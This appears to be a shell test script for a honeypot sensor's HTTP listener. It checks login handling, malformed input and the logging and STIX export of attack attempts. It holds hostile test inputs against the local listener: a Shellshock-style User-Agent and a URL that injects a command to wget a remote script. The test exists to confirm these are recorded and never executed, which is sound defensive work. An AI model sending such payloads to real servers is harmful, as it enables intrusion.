# test_sensor_http.sh — curl (and raw bytes) against the sensor's HTTP
# listener: the login page, Basic credentials refused and accepted, a
# form login, a command injected in the target and a User-Agent
# (URLs and addresses pulled out, nothing fetched or run), a payload
# whose digests become a file SCO, a non-HTTP client and an oversized
# head; then the exact events and the STIX in a local store.
source "$(dirname "$0")/lib.sh"

"$ACCORD" init >/dev/null
start_sensor --set store_dir="$ACCORD_DATA" --set batch=1 \
  --set "accept=admin:admin" --set http_server=TestServer/1.0
B="http://127.0.0.1:$HTTP_PORT"
code() { curl -s -o "$T/body" -D "$T/hdr" -w '%{http_code}' -m 10 "$@"; }

expect_eq "$(code "$B/")" 200 "login page"
expect_in "$T/body" '<form method="post"'
expect_in "$T/hdr" "Server: TestServer/1.0"
expect_eq "$(code -u admin:wrong "$B/admin/")" 401 "Basic refused"
expect_in "$T/hdr" 'WWW-Authenticate: Basic realm="Router"'
expect_eq "$(code -u admin:admin "$B/admin/")" 200 "Basic accepted"
expect_eq "$(code -d 'username=root&password=12%2B34' "$B/login")" 200 "form"
expect_in "$T/body" "Invalid username or password"
rm -f /tmp/pwned-http
expect_eq "$(code -A '() { :; }; /bin/ping -c1 198.51.100.23' \
  "$B/cgi-bin/x?cmd=;wget%20http://203.0.113.9/m.sh;touch%20/tmp/pwned-http")" \
  404 "injection"
head -c 3000 /dev/urandom >"$T/payload"
expect_eq "$(code --data-binary @"$T/payload" "$B/upload")" 404 "payload"
# not HTTP at all (a TLS ClientHello's first bytes)
printf '\x16\x03\x01\x00\xc4\x01\x00\x00\xc0\x03\x03\r\n\r\n' >"$T/tls"
python3 - "$HTTP_PORT" "$T/tls" >"$T/tls.out" <<'EOS'
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
s.sendall(open(sys.argv[2], "rb").read())
print(s.recv(100).split(b"\r\n")[0].decode())
EOS
expect_in "$T/tls.out" "HTTP/1.1 400 Bad Request"
# a head over the 16 KiB bound
expect_eq "$(code -H "X-Big: $(head -c 20000 /dev/zero | tr '\0' a)" "$B/")" \
  431 "oversized head"
wait_events 8 eventid=cowrie.session.closed protocol=http
[ -e /tmp/pwned-http ] && fail "an injected command touched the file system"

jsonq eventid=accord.http.request -- method url >"$T/req"
printf '%s\n' "GET	/" "GET	/admin/" "GET	/admin/" "POST	/login" \
  "GET	/cgi-bin/x?cmd=;wget%20http://203.0.113.9/m.sh;touch%20/tmp/pwned-http" \
  "POST	/upload" >"$T/req.want"
diff -u "$T/req.want" "$T/req" || fail "requests"
jsonq eventid=cowrie.login.failed -- username password protocol >"$T/f"
printf 'admin\twrong\thttp\nroot\t12+34\thttp\n' >"$T/f.want"
diff -u "$T/f.want" "$T/f" || fail "failed logins"
expect_eq "$(jsonq eventid=cowrie.login.success -- username password)" \
  "$(printf 'admin\tadmin')" "login"
jsonq eventid=cowrie.command.input protocol=http -- input >"$T/c"
expect_in "$T/c" "/cgi-bin/x?cmd=;wget http://203.0.113.9/m.sh;touch /tmp/pwned-http"
expect_in "$T/c" "() { :; }; /bin/ping -c1 198.51.100.23"
expect_eq "$(jsonq eventid=cowrie.session.file_download -- url)" \
  "http://203.0.113.9/m.sh" "download attempt"
expect_in <(jsonq eventid=accord.http.request method=GET -- ip_addresses) \
  '["198.51.100.23"]'
SHA=$(sha256sum "$T/payload" | cut -c1-64)
expect_eq "$(jsonq eventid=accord.http.request url=/upload -- body_sha256)" \
  "$SHA" "payload digest"
expect_events 2 eventid=accord.http.bad_request
stop_sensor
expect_eq "$SENSOR_RC" 0 "sensor exit status"

# STIX: one observed-data per connection, the payload as a file, the
# address named in the User-Agent, the request line as http-request-ext
expect_eq "$(count_type observed-data)" 8 "observed-data"
"$ACCORD" export --type file >"$T/file.json"
expect_in "$T/file.json" "\"SHA-256\":\"$SHA\""
expect_in "$T/file.json" '"size":3000'
"$ACCORD" export --type ipv4-addr >"$T/ip.json"
expect_in "$T/ip.json" '"value":"198.51.100.23"'
"$ACCORD" export --type network-traffic >"$T/nt.json"
expect_in "$T/nt.json" '"request_method":"post","request_value":"/login"'
pass
